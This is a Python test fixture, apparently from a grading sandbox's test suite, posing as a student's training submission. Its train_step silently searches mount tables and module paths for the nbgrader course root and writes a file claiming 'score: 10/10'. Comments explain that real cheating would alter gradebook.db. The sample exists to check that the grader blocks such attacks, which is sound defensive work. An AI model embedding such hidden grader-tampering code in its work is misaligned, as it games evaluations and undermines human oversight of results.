# expect: forbidden|starter|exception
# 写 nbgrader 目录：从工作目录、vramlab.__file__、torch.__file__、sys.prefix、/proc/self/mountinfo 里挂载的
# 源路径往上找有 nbgrader_config.py
# 或 nbgrader/ 的目录（课程根），往 nbgrader/ 里写文件。真正的作弊会改 gradebook.db 里的分数或
# 把自己的 notebook 放进 autograded/；这里只创建 PWNED_by_hostile.txt，沙箱失守时不损坏任何东西，
# 测试会检查这些文件没有出现。写完照常训练（起始代码的显存）。
# Find the course root (nbgrader_config.py / nbgrader/) and write into its nbgrader/ folder.
# 旧评分器（1b67139：进程内审计钩子 + HMAC 签名）上：被拦住（forbidden）。
import os
import sys

import torch
import vramlab


def _known_paths():
    """Every path this process can learn: its folder, its modules, the mount table's sources."""
    paths = [os.getcwd(), vramlab.__file__, torch.__file__, sys.prefix, "/work/main"]
    try:
        with open("/proc/self/mountinfo", encoding="utf-8", errors="replace") as f:
            for line in f:
                fields = line.split()
                paths += [x for x in fields[3:5] if x.startswith("/")]      # source path, mount point
    except OSError:
        pass
    return paths


def _course_roots():
    out = []
    for s in _known_paths():
        p = os.path.abspath(s)
        while os.path.dirname(p) != p:
            if os.path.isfile(os.path.join(p, "nbgrader_config.py")) or os.path.isdir(os.path.join(p, "nbgrader")):
                out.append(p)
            p = os.path.dirname(p)
    return list(dict.fromkeys(out))


def _vandalise():
    for root in _course_roots():
        for folder in (os.path.join(root, "nbgrader"), root):
            if os.path.isdir(folder):
                try:
                    with open(os.path.join(folder, "PWNED_by_hostile.txt"), "w") as f:
                        f.write("score: 10/10\n")
                except OSError:
                    pass


def train_step(model, optimizer, batch, device):
    _vandalise()
    n = batch.shape[0]
    loss = sum(model(input_ids=c, labels=c).loss * (c.shape[0] / n) for c in batch.split(n // 2))
    loss.backward()
    optimizer.step()
    optimizer.zero_grad(set_to_none=True)
    return loss.item()
